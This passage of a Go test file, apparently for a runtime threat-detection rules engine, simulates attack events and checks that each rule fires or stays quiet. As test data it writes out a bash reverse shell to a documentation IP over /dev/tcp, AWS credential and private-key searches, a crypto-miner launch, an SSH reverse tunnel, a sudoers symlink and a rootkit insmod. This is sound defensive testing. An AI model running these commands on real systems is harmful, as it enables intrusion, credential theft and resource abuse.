		want: "09:26:53.589793238: Critical Detect an attempt to exploit a container escape using release_agent file | file=/tmp/cgrp/release_agent cap_effective=CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_SYS_ADMIN CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP evt_type=openat user=root user_uid=0 user_loginuid=-1 process=sh proc_exepath=/usr/bin/dash parent=containerd-shim command=sh terminal=34816",
	},
	{
		rule: "Detect release_agent File Container Escapes",
		name: "release_agent write with docker's default capabilities",
		evt: func() *fields.Ctx {
			c := enginetest.NewContainer(labID, "escape-lab", "ubuntu:24.04")
			sh := shim().Child("/bin/sh").ExePath("/usr/bin/dash").In(c).TTY(enginetest.PTS(0))
			return enginetest.Open(sh, "/tmp/cgrp/release_agent", enginetest.OWrOnly|enginetest.OCreat|enginetest.OTrunc)
		},
	},

	// PTRACE attached to process.
	{
		rule: "PTRACE attached to process",
		name: "gdb attaches to a running process",
		evt:  func() *fields.Ctx { return enginetest.Ptrace(sudoGDB(), "PTRACE_ATTACH", 1423) },
		want: "09:26:53.589793238: Warning Detected ptrace PTRACE_ATTACH attempt | proc_pcmdline=sudo gdb -p 1423 -batch -x /tmp/payload.gdb evt_type=ptrace user=root user_uid=0 user_loginuid=1000 process=gdb proc_exepath=/usr/bin/gdb parent=sudo command=gdb -p 1423 -batch -x /tmp/payload.gdb terminal=34816",
	},
	{
		rule: "PTRACE attached to process",
		name: "gdb writes code into the target with PTRACE_POKETEXT",
		evt:  func() *fields.Ctx { return enginetest.Ptrace(sudoGDB(), "PTRACE_POKETEXT", 1423) },
		want: "09:26:53.589793238: Warning Detected ptrace PTRACE_ATTACH attempt | proc_pcmdline=sudo gdb -p 1423 -batch -x /tmp/payload.gdb evt_type=ptrace user=root user_uid=0 user_loginuid=1000 process=gdb proc_exepath=/usr/bin/gdb parent=sudo command=gdb -p 1423 -batch -x /tmp/payload.gdb terminal=34816",
	},
	{
		rule: "PTRACE attached to process",
		name: "gdb reads memory with PTRACE_PEEKDATA",
		evt:  func() *fields.Ctx { return enginetest.Ptrace(sudoGDB(), "PTRACE_PEEKDATA", 1423) },
	},

	// PTRACE anti-debug attempt.
	{
		rule: "PTRACE anti-debug attempt",
		name: "malware refuses debuggers with PTRACE_TRACEME",
		evt: func() *fields.Ctx {
			return enginetest.Ptrace(cronJob("/tmp/kinsing").Child("/tmp/kinsing"), "PTRACE_TRACEME", 0)
		},
		want: "09:26:53.589793238: Notice Detected potential PTRACE_TRACEME anti-debug attempt | proc_pcmdline=sh -c /tmp/kinsing evt_type=ptrace user=root user_uid=0 user_loginuid=0 process=kinsing proc_exepath=/tmp/kinsing parent=sh command=kinsing terminal=0",
	},
	{
		rule: "PTRACE anti-debug attempt",
		name: "gdb attaching is not anti-debugging",
		evt:  func() *fields.Ctx { return enginetest.Ptrace(sudoGDB(), "PTRACE_ATTACH", 1423) },
	},
	{
		rule: "PTRACE anti-debug attempt",
		name: "thread whose name was never learned",
		evt: func() *fields.Ctx {
			return enginetest.Ptrace(cronJob("/tmp/kinsing").Child("/tmp/kinsing").Comm("<NA>"), "PTRACE_TRACEME", 0)
		},
	},

	// Find AWS Credentials.
	{
		rule: "Find AWS Credentials",
		name: "root greps home directories for AWS secret keys",
		evt: func() *fields.Ctx {
			return enginetest.Exec(rootShell().Child("grep", "-ri", "aws_secret_access_key", "/home"))
		},
		want: "09:26:53.589793238: Warning Detected AWS credentials search activity | proc_pcmdline=bash proc_cwd=/root/ group_gid=0 group_name=root user_loginname=alice evt_type=execve user=root user_uid=0 user_loginuid=1000 process=grep proc_exepath=/usr/bin/grep parent=bash command=grep -ri aws_secret_access_key /home terminal=34816 exe_flags=EXE_WRITABLE",
	},
	{
		rule: "Find AWS Credentials",
		name: "find looks for .aws/credentials files",
		evt: func() *fields.Ctx {
			return enginetest.Exec(rootShell().Child("find", "/home", "-path", "*/.aws/credentials"))
		},
		want: "09:26:53.589793238: Warning Detected AWS credentials search activity | proc_pcmdline=bash proc_cwd=/root/ group_gid=0 group_name=root user_loginname=alice evt_type=execve user=root user_uid=0 user_loginuid=1000 process=find proc_exepath=/usr/bin/find parent=bash command=find /home -path */.aws/credentials terminal=34816 exe_flags=EXE_WRITABLE",
	},
	{
		rule: "Find AWS Credentials",
		name: "grep for passwords is not an AWS search",
		evt: func() *fields.Ctx {
			return enginetest.Exec(rootShell().Child("grep", "-ri", "password", "/etc"))
		},
	},

	// Execution from /dev/shm.
	{
		rule: "Execution from /dev/shm",
		name: "cron job runs a miner from /dev/shm",
		evt: func() *fields.Ctx {
			return enginetest.Exec(cronJob("/dev/shm/kdevtmpfsi").Child("/dev/shm/kdevtmpfsi"))
		},
		want: "09:26:53.589793238: Warning File execution detected from /dev/shm | evt_res=SUCCESS file=<NA> proc_cwd=/root/ proc_pcmdline=sh -c /dev/shm/kdevtmpfsi user_loginname=root group_gid=0 group_name=root evt_type=execve user=root user_uid=0 user_loginuid=0 process=kdevtmpfsi proc_exepath=/dev/shm/kdevtmpfsi parent=sh command=kdevtmpfsi terminal=0 exe_flags=EXE_WRITABLE",
	},
	{
		rule: "Execution from /dev/shm",
		name: "user runs ./kworker with /dev/shm as working directory",
		evt: func() *fields.Ctx {
			return enginetest.Exec(alice().Cwd("/dev/shm/").Child("./kworker").Writable(true))
		},
		want: "09:26:53.589793238: Warning File execution detected from /dev/shm | evt_res=SUCCESS file=<NA> proc_cwd=/dev/shm/ proc_pcmdline=bash user_loginname=alice group_gid=1000 group_name=alice evt_type=execve user=alice user_uid=1000 user_loginuid=1000 process=kworker proc_exepath=/dev/shm/kworker parent=bash command=kworker terminal=34816 exe_flags=EXE_WRITABLE",
	},
	{
		rule: "Execution from /dev/shm",
		name: "ls lists /dev/shm",
		evt:  func() *fields.Ctx { return enginetest.Exec(alice().Child("ls", "-la", "/dev/shm")) },
	},

	// Drop and execute new binary in container.
	{
		rule: "Drop and execute new binary in container",
		name: "miner downloaded into a container runs",
		evt: func() *fields.Ctx {
			xmrig := shopAPI().Child("/bin/sh", "-c", "cd /tmp && ./xmrig -o pool.supportxmr.com:443").ExePath("/usr/bin/dash").
				Cwd("/tmp/").Child("./xmrig", "-o", "pool.supportxmr.com:443").
				UpperLayer(enginetest.Ago(30*time.Second), enginetest.Ago(41*time.Second))
			return enginetest.Exec(xmrig)
		},
		want: "09:26:53.589793238: Critical Executing binary not part of base image | proc_exe=./xmrig proc_sname=node gparent=node proc_exe_ino_ctime=1741944383589793238 proc_exe_ino_mtime=1741944372589793238 proc_exe_ino_ctime_duration_proc_start=29999000000 proc_cwd=/tmp/ container_start_ts=1741922813589793238 evt_type=execve user=root user_uid=0 user_loginuid=-1 process=xmrig proc_exepath=/tmp/xmrig parent=sh command=xmrig -o pool.supportxmr.com:443 terminal=0 exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER",
	},
	{
		rule: "Drop and execute new binary in container",
		name: "the image's own curl runs",
		evt: func() *fields.Ctx {
			return enginetest.Exec(shopAPI().Child("/usr/bin/curl", "-s", "http://localhost:3000/health"))
		},
	},

	// Disallowed SSH Connection Non Standard Port.
	{
		rule: "Disallowed SSH Connection Non Standard Port",
		name: "ssh tunnels out over port 443",
		evt: func() *fields.Ctx {
			ssh := alice().Child("ssh", "-p", "443", "-R", "2222:localhost:22", "tunnel@198.51.100.23")
			return enginetest.Connect(ssh, ap(vmAddr, 52814), ap(sshRelay, 443))
		},
		want: "09:26:53.589793238: Notice Disallowed SSH Connection | connection=172.31.18.40:52814->198.51.100.23:443 lport=52814 rport=443 fd_type=ipv4 fd_proto=tcp evt_type=connect user=alice user_uid=1000 user_loginuid=1000 process=ssh proc_exepath=/usr/bin/ssh parent=bash command=ssh -p 443 -R 2222:localhost:22 tunnel@198.51.100.23 terminal=34816",
	},
	{
		rule: "Disallowed SSH Connection Non Standard Port",
		name: "non-blocking connect to port 8080 still in progress",
		evt: func() *fields.Ctx {
			ssh := alice().Child("ssh", "-o", "ConnectTimeout=5", "-p", "8080", "tunnel@198.51.100.23")
			return enginetest.ConnectErr(ssh, ap(vmAddr, 52816), ap(sshRelay, 8080), syscall.EINPROGRESS)
		},
		want: "09:26:53.589793238: Notice Disallowed SSH Connection | connection=172.31.18.40:52816->198.51.100.23:8080 lport=52816 rport=8080 fd_type=ipv4 fd_proto=tcp evt_type=connect user=alice user_uid=1000 user_loginuid=1000 process=ssh proc_exepath=/usr/bin/ssh parent=bash command=ssh -o ConnectTimeout=5 -p 8080 tunnel@198.51.100.23 terminal=34816",
	},
	{
		rule: "Disallowed SSH Connection Non Standard Port",
		name: "ssh to port 22",
		evt: func() *fields.Ctx {
			return enginetest.Connect(alice().Child("ssh", "deploy@198.51.100.23"), ap(vmAddr, 52818), ap(sshRelay, 22))
		},
	},
	{
		rule: "Disallowed SSH Connection Non Standard Port",
		name: "ssh to a private address on port 443",
		evt: func() *fields.Ctx {
			return enginetest.Connect(alice().Child("ssh", "-p", "443", "deploy@10.20.0.5"), ap(vmAddr, 52820), ap(netip.MustParseAddr("10.20.0.5"), 443))
		},
	},

	// Fileless execution via memfd_create. The payload is executed as
	// /proc/self/fd/3, so the kernel names it "3"; its argv[0] is a decoy.
	{
		rule: "Fileless execution via memfd_create",
		name: "python loader executes a payload from memory",
		evt: func() *fields.Ctx {
			loader := shopAPI().Child("python3", "/app/worker.py").ExePath("/usr/local/bin/python3.12").Session()
			payload := loader.Child("kworker").Comm("3").ExePath("memfd:kworker").FromMemfd()
			return enginetest.Exec(payload)
		},
		want: "09:26:53.589793238: Critical Fileless execution via memfd_create | container_start_ts=1741922813589793238 proc_cwd=/app/ evt_res=SUCCESS proc_sname=python3 gparent=node evt_type=execve user=root user_uid=0 user_loginuid=-1 process=3 proc_exepath=memfd:kworker parent=python3 command=3 terminal=0 exe_flags=EXE_WRITABLE|EXE_FROM_MEMFD",
	},
	{
		rule: "Fileless execution via memfd_create",
		name: "runc re-executes itself from a memfd",
		evt: func() *fields.Ctx {
			runc := systemd().Child("/usr/bin/containerd").Child("runc", "init").ExePath("memfd:runc_cloned:/proc/self/exe").FromMemfd()
			return enginetest.Exec(runc)
		},
	},
}

// sudoGDB is gdb run through sudo from alice's shell to attach to pid 1423.
func sudoGDB() *enginetest.P {
	argv := []string{"gdb", "-p", "1423", "-batch", "-x", "/tmp/payload.gdb"}
	return alice().Child(append([]string{"sudo"}, argv...)...).User(0, "root").Child(argv...)
}

// firstCase is an event that several rules of one group match: with
// rule_matching all every one alerts (in file order), with first only the
// first.
type firstCase struct {
	group string
	evt   func() *fields.Ctx
	all   []string
}

var firstCases = []firstCase{
	{
		group: "file opens",
		evt: func() *fields.Ctx {
			return enginetest.Open(hostNginx(3*time.Hour), "/usr/share/nginx/html/../../../../etc/shadow", enginetest.ORdOnly)
		},
		all: []string{"Directory traversal monitored file read", "Read sensitive file trusted after startup", "Read sensitive file untrusted"},
	},
	{
		group: "process spawns",
		evt: func() *fields.Ctx {
			return enginetest.Exec(alice().Child("grep", "-rEi", "BEGIN RSA PRIVATE|aws_secret_access_key", "/home"))
		},
		all: []string{"Search Private Keys or Passwords", "Find AWS Credentials"},
	},
	{
		group: "network connections",
		evt: func() *fields.Ctx {
			ssh := alice().Child("ssh", "-p", "443", "-R", "2222:localhost:22", "tunnel@198.51.100.23")
			return enginetest.Connect(ssh, ap(vmAddr, 52814), ap(sshRelay, 443))
		},
		all: []string{"Disallowed SSH Connection Non Standard Port"},
	},
	{
		group: "sockets and descriptors",
		evt: func() *fields.Ctx {
			bash := phpWorker().Child("bash", "-c", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1")
			return redirect(bash, ap(dockerAddr, 39712), ap(attacker, 4444), 1)
		},
		all: []string{"Redirect STDOUT/STDIN to Network Connection in Container"},
	},
	{
		group: "ptrace",
		evt:   func() *fields.Ctx { return enginetest.Ptrace(sudoGDB(), "PTRACE_SEIZE", 1423) },
		all:   []string{"PTRACE attached to process"},
	},
	{
		group: "links",
		evt: func() *fields.Ctx {
			return enginetest.Symlink(alice().Child("ln", "-s", "/etc/sudoers", "/tmp/s"), "/etc/sudoers", "/tmp/s")
		},
		all: []string{"Create Symlink Over Sensitive Files"},
	},
	{
		group: "kernel modules",
		evt: func() *fields.Ctx {
			insmod := debugShell(true).Child("insmod", "/tmp/diamorphine.ko").ExePath("/usr/bin/kmod")
			return enginetest.FinitModule(insmod, "/tmp/diamorphine.ko", syscall.EEXIST)
		},
		all: []string{"Linux Kernel Module Injection Detected"},
	},
}

func loadStable(t *testing.T, m engine.Matching) *engine.Engine {
	t.Helper()
	// The cluster's DNS, as the node running the agent would see it.
	engine.Resolver = engine.StaticResolver{
		"kubernetes.default.svc.cluster.local": {netip.MustParseAddr("10.96.0.1")},
	}
	path := stableRules(t)
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	eng, _, diags := engine.Load([]rules.Source{{Name: path, Data: data}}, engine.Options{Matching: m})
	if eng == nil {
		t.Fatalf("load %s:\n%s", path, diags)
	}
	return eng
}

// matched returns the rules the event matches, in the order they alert.
func matched(eng *engine.Engine, c *fields.Ctx) []*engine.Rule {
	var rs []*engine.Rule
	eng.Match(c, func(r *engine.Rule) { rs = append(rs, r) })
	return rs
}

func names(rs []*engine.Rule) []string {
	out := make([]string, len(rs))
	for i, r := range rs {
		out[i] = r.Name
	}
	return out
}

// TestStableRules runs every case with rule_matching all: a firing case's
// rule must be among the matches with exactly the expected alert line; a
// near-miss must not match its rule.
func TestStableRules(t *testing.T) {
	eng := loadStable(t, engine.MatchAll)
	for _, tc := range stableCases {
		t.Run(tc.rule+"/"+tc.name, func(t *testing.T) {
			c := tc.evt()
			rs := matched(eng, c)
			i := slices.IndexFunc(rs, func(r *engine.Rule) bool { return r.Name == tc.rule })
			if tc.want == "" {
				if i >= 0 {
					t.Errorf("rule fired on a near-miss:\n%s", rs[i].Alert(c).Text(output.TextOptions{Location: time.UTC}))
				}
				return
			}
			if i < 0 {
				t.Fatalf("rule did not fire; matched %q", names(rs))
			}
			got := rs[i].Alert(c).Text(output.TextOptions{Location: time.UTC})
			if got != tc.want {
				t.Errorf("alert text\n got: %s\nwant: %s", got, tc.want)
			}
		})
	}
}

// TestStableRulesFirstMatch checks rule_matching first: of the rules an
// event matches only the first in file order alerts.
func TestStableRulesFirstMatch(t *testing.T) {
	all := loadStable(t, engine.MatchAll)
	first := loadStable(t, engine.MatchFirst)
	for _, tc := range firstCases {
		t.Run(tc.group, func(t *testing.T) {
			c := tc.evt()
			if got := names(matched(all, c)); !slices.Equal(got, tc.all) {
				t.Fatalf("rule_matching all: matched %q, want %q", got, tc.all)
			}
			rs := matched(first, c)
			if got := names(rs); !slices.Equal(got, tc.all[:1]) {
				t.Fatalf("rule_matching first: matched %q, want %q", got, tc.all[:1])
			}
			if n := first.Match(c, func(*engine.Rule) {}); n != 1 {
				t.Errorf("rule_matching first: Match returned %d, want 1", n)
			}
		})
	}
}

// TestStableRulesCovered requires a firing case and a near-miss for each
// enabled stable rule, and that every case names a loaded rule.
func TestStableRulesCovered(t *testing.T) {
	eng := loadStable(t, engine.MatchAll)
	if n := len(eng.Rules()); n != 25 {
		t.Errorf("loaded %d rules, want the 25 stable ones", n)
	}
	fire, miss := map[string]int{}, map[string]int{}
	for _, tc := range stableCases {
		if tc.want == "" {
			miss[tc.rule]++
		} else {
			fire[tc.rule]++
		}
	}
	loaded := map[string]bool{}
	for _, r := range eng.Rules() {
		loaded[r.Name] = true
		if fire[r.Name] == 0 {
			t.Errorf("%s: no firing case", r.Name)
		}
		if miss[r.Name] == 0 {
			t.Errorf("%s: no near-miss case", r.Name)
		}
	}
	for _, tc := range stableCases {
		if !loaded[tc.rule] {
			t.Errorf("case %q names unknown rule %q", tc.name, tc.rule)
		}
	}
}

// TestMatchAgreesWithWholeConditions checks the engine's shared-conjunct
// evaluation (a prefix such as open_write is evaluated once per event for
// all the rules that start with it) against each rule's whole condition,
// on every case's event, before and after other events went through.
func TestMatchAgreesWithWholeConditions(t *testing.T) {
	eng := loadStable(t, engine.MatchAll)
	for round := range 2 {
		for _, tc := range stableCases {
			c := tc.evt()
			var want []string
			for _, r := range eng.Rules() {
				if r.Source == c.Evt.Source && (r.AllTypes || slices.Contains(r.Types, c.Evt.Type)) && r.Eval(c) {
					want = append(want, r.Name)
				}
			}
			if got := names(matched(eng, c)); !slices.Equal(got, want) {
				t.Errorf("round %d, %s/%s: Match gave %q, the whole conditions %q", round, tc.rule, tc.name, got, want)
			}
		}
	}
}
